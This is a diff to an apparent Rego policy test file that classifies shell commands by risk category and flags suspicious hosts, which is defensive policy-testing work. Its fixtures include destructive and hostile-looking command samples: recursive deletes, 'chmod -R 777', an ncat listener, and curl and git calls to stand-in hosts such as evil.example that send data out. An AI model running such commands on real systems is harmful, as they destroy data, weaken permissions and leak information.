@@ -28,7 +28,6 @@ hosts := {
 }
 
 commands := {
-	"rm -rf vendor": "fs.delete",
 	"chmod -R 777 .": "fs.permissions",
 	`python3 -c "import x"`: "exec.code",
 	"ncat -l 9999": "net.listen",
@@ -89,6 +88,7 @@ test_passes if {
 		["pip install requests", "package.install", "host", {"host": "pypi.org"}],
 		["python3 -m reqeusts", "exec.code", "package", {}],
 		["rm -rf vendor", "fs.delete", "host", evil],
+		["rm -rf dist && pnpm build", "fs.delete", "command", {}],
 		["curl -s https://evil.example/guide; curl -d x https://api.mine.example", "net.send", "host", object.union(evil, {"command": 2})],
 		["git fetch https://evil.example/x.git && git push origin main", "git.push", "host", object.union(evil, {"command": 2})],
 		["echo see https://evil.example > notes.md", "fs.write", "address", evil],
